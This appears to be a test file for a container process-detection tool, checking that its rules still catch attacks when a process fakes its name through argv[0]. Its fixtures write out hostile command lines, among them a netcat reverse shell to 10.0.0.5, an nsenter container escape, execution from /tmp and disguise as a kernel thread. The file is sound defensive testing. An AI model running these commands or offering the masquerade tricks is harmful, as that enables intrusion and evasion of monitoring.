import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { processDocument } from '../../src/collect/kernel/documents';
import { ProcessTable, type ProcessFact } from '../../src/collect/kernel/process-table';
import type { ProcInfo } from '../../src/collect/kernel/procfs';
import type { Doc } from '../../src/detect/condition';
import { RuleIndex } from '../../src/detect/prefilter';
import { BUILTIN_RULES, loadRules } from '../../src/detect/rules';

const ID = 'c'.repeat(64);
const rules = loadRules([BUILTIN_RULES]).rules.filter((r) => r.enabled && r.kinds.includes('process'));
const index = new RuleIndex(rules);

/** A process exec'd in a container as the kernel collector sees it: /proc as given, through the table, to the document. */
function kernelDoc(info: ProcInfo): Doc {
  const facts: ProcessFact[] = [];
  const table = new ProcessTable({ maxProcesses: 10, bootMs: 0, read: () => ({ ppid: 1, vpid: 7, uid: 0, euid: 0, gid: 0, start: 1000, ...info }), readCgroup: () => ID }, (f) => facts.push(f));
  table.handle({ what: 'exec', ts: 1n, pid: 9, tgid: 9 });
  assert.equal(facts.length, 1);
  const ctx = { index: 'logs-dockward.process-test', base: { data_stream: { dataset: 'dockward.process' } }, meta: undefined, wallMs: () => 2000, now: 2000 };
  return processDocument(facts[0], ctx).doc;
}

/** Rule ids that fire on the document, through the prefilter as the detector runs them. */
const hits = (doc: Doc) => index.candidates(doc).filter((r) => r.matches(doc)).map((r) => r.id).sort();

const basename = (p: string) => p.slice(p.lastIndexOf('/') + 1);

/**
 * A rule's match example as the kernel would report it, with argv[0] replaced by `argv0` (or kept
 * when undefined): the program (comm, exe) is the one the example names; the example's other
 * fields (event, parent, user, dockward.*) are laid over the document.
 */
function fromExample(ex: Doc, argv0: string | undefined): Doc {
  const p = (ex.process ?? {}) as { name?: string; args?: string[]; command_line?: string; executable?: string; [k: string]: unknown };
  const argv = p.args ?? (p.command_line !== undefined ? p.command_line.split(' ') : [p.name ?? 'true']);
  const name = p.name ?? basename(argv[0]);
  const exe = p.executable ?? (argv[0].startsWith('/') ? argv[0] : `/usr/bin/${name}`);
  const doc = kernelDoc({ args: argv0 === undefined ? argv : [argv0, ...argv.slice(1)], comm: name.slice(0, 15), exe });
  const { name: _n, args: _a, command_line: _c, executable: _e, title: _t, ...rest } = p;
  return merge(doc, { ...ex, process: rest });
}

function merge(a: Doc, b: Doc): Doc {
  const out: Doc = { ...a };
  for (const [k, v] of Object.entries(b)) {
    const cur = out[k];
    out[k] = v && typeof v === 'object' && !Array.isArray(v) && cur && typeof cur === 'object' && !Array.isArray(cur) ? merge(cur as Doc, v as Doc) : v;
  }
  return out;
}

/** Rules about argv[0] itself: spoofing it away is their subject, not an evasion. */
const ABOUT_ARGV0 = new Set(['dockward-kernel-thread-masquerade', 'dockward-argv0-masquerade']);

describe('argv[0] cannot fake a process\'s identity (review H3, h3-argv0.js)', () => {
  it('the review\'s reproductions: exec -a changes nothing the rules key on, and is itself an alert', () => {
    const cases: Array<[string, ProcInfo, string[]]> = [
      ['exec -a nginx nc -e /bin/sh 10.0.0.5 4444', { args: ['nginx', '-e', '/bin/sh', '10.0.0.5', '4444'], comm: 'nc', exe: '/usr/bin/nc.traditional' },
        ['dockward-argv0-masquerade', 'dockward-net-tool', 'dockward-reverse-shell-nc']],
      ['exec -a sh /tmp/.x', { args: ['sh'], comm: '.x', exe: '/tmp/.x' }, ['dockward-argv0-masquerade', 'dockward-exec-from-tmp']],
      ['exec -a ns nsenter -t 1 -m sh', { args: ['ns', '-t', '1', '-m', 'sh'], comm: 'nsenter', exe: '/usr/bin/nsenter' }, ['dockward-argv0-masquerade', 'dockward-escape-tools']],
      ["exec -a '[kworker/0:1]' ./php-fpm --config=/etc/x.json", { args: ['[kworker/0:1]', '--config=/etc/x.json'], comm: 'php-fpm', exe: '/app/php-fpm' },
        ['dockward-argv0-masquerade', 'dockward-kernel-thread-masquerade']],
      ['fileless: memfd exec as /usr/sbin/nginx', { args: ['/usr/sbin/nginx'], comm: '3', exe: '/memfd:x (deleted)' }, ['dockward-argv0-masquerade', 'dockward-fileless-exec']],
      // The runtime exceptions are keyed on where the executable is: a copy in /tmp named like one is still a masquerade.
      ['exec -a erl /tmp/erts-1/bin/beam.smp', { args: ['erl'], comm: 'beam.smp', exe: '/tmp/erts-1/bin/beam.smp' }, ['dockward-argv0-masquerade', 'dockward-exec-from-tmp']],
      ['exec -a -bash /tmp/.b', { args: ['-bash'], comm: '.b', exe: '/tmp/.b' }, ['dockward-argv0-masquerade', 'dockward-exec-from-tmp']],
    ];
    for (const [what, info, want] of cases) assert.deepEqual(hits(kernelDoc(info)), want, what);
    // Without the spoof: the same rules, no masquerade.
    assert.deepEqual(hits(kernelDoc({ args: ['nc', '-e', '/bin/sh', '10.0.0.5', '4444'], comm: 'nc', exe: '/usr/bin/nc.traditional' })), ['dockward-net-tool', 'dockward-reverse-shell-nc']);
    assert.deepEqual(hits(kernelDoc({ args: ['/tmp/.x'], comm: '.x', exe: '/tmp/.x' })), ['dockward-exec-from-tmp']);
  });

  it('the document keeps argv[0] apart: title and args[0]; name, executable and the command line\'s head are the program', () => {
    const doc = kernelDoc({ args: ['nginx', '-e', '/bin/sh', '10.0.0.5', '4444'], comm: 'nc', exe: '/usr/bin/nc.traditional' });
    const p = doc.process as Record<string, unknown>;
    assert.deepEqual([p.name, p.title, p.executable, p.command_line, (p.args as string[])[0]], ['nc', 'nginx', '/usr/bin/nc.traditional', 'nc -e /bin/sh 10.0.0.5 4444', 'nginx']);
    assert.equal((doc.dockward as { process: { argv0_mismatch?: boolean } }).process.argv0_mismatch, true);
    assert.match(doc.message as string, /^process started: nc -e \/bin\/sh 10\.0\.0\.5 4444 \(started as "nginx"\)$/);
  });

  it('benign argv[0] differences raise nothing', () => {
    const benign: Array<[string, ProcInfo]> = [
      ['login shell', { args: ['-bash'], comm: 'bash', exe: '/usr/bin/bash' }],
      ['busybox applet', { args: ['cat', '/etc/hosts'], comm: 'exe', exe: '/bin/busybox' }],
      ['python3 → python3.11', { args: ['python3', '/app/server.py'], comm: 'python3', exe: '/usr/bin/python3.11' }],
      ['script run by its interpreter', { args: ['/bin/sh', '/docker-entrypoint.sh', 'nginx', '-g', 'daemon off;'], comm: 'docker-entrypoi', exe: '/usr/bin/dash' }],
      ['nginx master', { args: ['nginx: master process nginx -g daemon off;'], comm: 'nginx', exe: '/usr/sbin/nginx' }],
      // Runtimes told who they are through argv[0] (RabbitMQ's Erlang VM, a JVM under a wrapper's name, busybox outside /bin).
      ['erlexec run by dyn_erl as erl', { args: ['erl', '-noinput', '-s', 'rabbit', 'boot'], comm: 'erlexec', exe: '/usr/local/lib/erlang/erts-14.2.5/bin/erlexec' }],
      ['beam.smp as rabbitmq-server', { args: ['rabbitmq-server', '-W', 'w', '--', '-root', '/opt/erlang/lib/erlang'], comm: 'beam.smp', exe: '/opt/erlang/lib/erlang/erts-13.2.2.5/bin/beam.smp' }],
      ['erl_child_setup started by the VM', { args: ['beam.smp', '1048576'], comm: 'erl_child_setup', exe: '/usr/lib/erlang/erts-13.1.5/bin/erl_child_setup' }],
      ['epmd as erl', { args: ['erl', '-daemon'], comm: 'epmd', exe: '/usr/lib/erlang/erts-13.1.5/bin/epmd' }],
      ['java as elasticsearch', { args: ['elasticsearch', '-Xms1g', '-Xmx1g'], comm: 'java', exe: '/usr/share/elasticsearch/jdk/bin/java' }],
      ['busybox applet in a debug image', { args: ['ls', '-la'], comm: 'exe', exe: '/busybox/busybox' }],
    ];
    // Signals (class signal: `cat /etc/hosts` is network configuration discovery) never page: what must not happen is an alert.
    const alerts = (doc: Doc) => hits(doc).filter((id) => rules.find((r) => r.id === id)?.class !== 'signal');
    for (const [what, info] of benign) assert.deepEqual(alerts(kernelDoc(info)), [], what);
  });

  it('census: every process rule keyed on a binary still matches its own examples with argv[0] = "nginx" (before: 35 of 77 lost every example)', () => {
    const lost: string[] = [];
    const honestLost: string[] = [];
    let checked = 0;
    for (const r of rules) {
      if (ABOUT_ARGV0.has(r.id)) continue;
      checked++;
      const fires = (argv0: string | undefined) => r.examples.match.some((ex) => {
        const doc = fromExample(ex as Doc, argv0);
        return r.matches(doc) && index.candidates(doc).includes(r);
      });
      if (!fires(undefined)) honestLost.push(r.id);
      if (!fires('nginx')) lost.push(`${r.id}(${r.severity})`);
    }
    assert.ok(checked >= 75, `${checked} process rules`);
    assert.deepEqual(honestLost, [], 'the examples, exec\'d honestly, go through the table and still match');
    assert.deepEqual(lost, [], `${lost.length}/${checked} process rules lose every example once argv[0] is "nginx"`);
  });
});
